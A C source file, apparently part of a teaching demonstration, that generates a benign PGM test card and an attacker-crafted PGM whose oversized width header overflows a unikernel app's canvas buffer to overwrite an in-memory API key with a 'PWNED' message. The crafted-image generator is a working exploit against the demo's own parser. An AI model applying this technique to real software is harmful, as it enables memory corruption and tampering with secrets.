/*
 * The files users "upload": a benign test card, and one crafted by an attacker.
 *
 * The attacker knows the memory layout of the image, as anyone holding the binary does:
 * unikernel images are usually not randomized, and `nm` shows where `api_key` lives
 * relative to `canvas`. vault_layout_hint() stands in for that knowledge. The crafted header
 * announces exactly enough pixels to run from the start of the canvas to the end of the key,
 * and the pixel bytes that land on the key spell the attacker's message.
 */
#include <stdint.h>
#include <stdio.h>

#include "app.h"

#define MAX_REACH 60000u      /* the parser accepts widths up to 65535 */
#define BLIND_OVERFLOW 4096u  /* used when the key cannot be reached by writing forward */

static size_t header(unsigned char *file, size_t cap, const char *comment, size_t w, size_t h)
{
	int n = snprintf((char *)file, cap, "P5\n# %s\n%zu %zu\n255\n", comment, w, h);

	return n < 0 || (size_t)n >= cap ? 0 : (size_t)n;
}

size_t make_benign_image(unsigned char *file, size_t cap, unsigned width, unsigned height)
{
	size_t n = header(file, cap, "a test card", width, height);

	if (n == 0 || width < 2 || height < 2 || n + (size_t)width * height > cap)
		return 0;
	for (unsigned y = 0; y < height; y++)
		for (unsigned x = 0; x < width; x++)
			file[n++] = (unsigned char)((x * 255u / (width - 1) + y * 255u / (height - 1)) / 2);
	return n;
}

size_t make_crafted_image(unsigned char *file, size_t cap, const unsigned char *pixels,
			  size_t pixels_cap)
{
	static const char message[KEY_LEN + 1] = "PWNED by a crafted PGM header :)";
	uintptr_t from = (uintptr_t)pixels, to = (uintptr_t)vault_layout_hint();
	size_t offset, count, n;

	if (to >= from + pixels_cap && to - from + KEY_LEN <= MAX_REACH) {
		offset = (size_t)(to - from); /* the key starts this many pixels into the image */
		count = offset + KEY_LEN;
	} else {
		offset = SIZE_MAX;
		count = pixels_cap + BLIND_OVERFLOW;
		printf("attacker: the key does not lie after the canvas here; overflowing blindly\n");
	}
	n = header(file, cap, "crafted", count, 1);
	if (n == 0 || n + count > cap)
		return 0;
	for (size_t i = 0; i < count; i++) {
		if (i >= offset)
			file[n + i] = (unsigned char)message[i - offset];
		else
			file[n + i] = i < pixels_cap ? 0x80 : 0x00;
	}
	return n + count;
}
